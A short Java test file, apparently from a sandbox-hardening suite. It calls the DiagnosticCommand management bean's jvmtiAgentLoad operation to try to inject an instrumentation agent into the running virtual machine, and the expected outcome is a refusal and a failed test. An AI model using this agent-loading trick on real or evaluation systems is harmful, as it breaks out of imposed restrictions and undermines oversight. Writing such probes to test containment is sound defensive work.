// Tries: have the virtual machine load an agent through its management bean
// Group: worker
// Ends: refused: Your code failed a test: f(1) gave 0, but 2 was expected.
import java.lang.management.ManagementFactory;
import javax.management.ObjectName;

class Hw {
    static boolean done;

    static int f(int x) {
        try {
            attack();
        } catch (Throwable refused) {
            done = false;
        }
        return done ? x + 1 : 0;
    }

    static void attack() throws Throwable {
        var answer = ManagementFactory.getPlatformMBeanServer()
                .invoke(
                        new ObjectName("com.sun.management:type=DiagnosticCommand"),
                        "jvmtiAgentLoad",
                        new Object[] {new String[] {"libinstrument.so"}},
                        new String[] {String[].class.getName()});
        done = !String.valueOf(answer).contains("not enabled");
    }
}
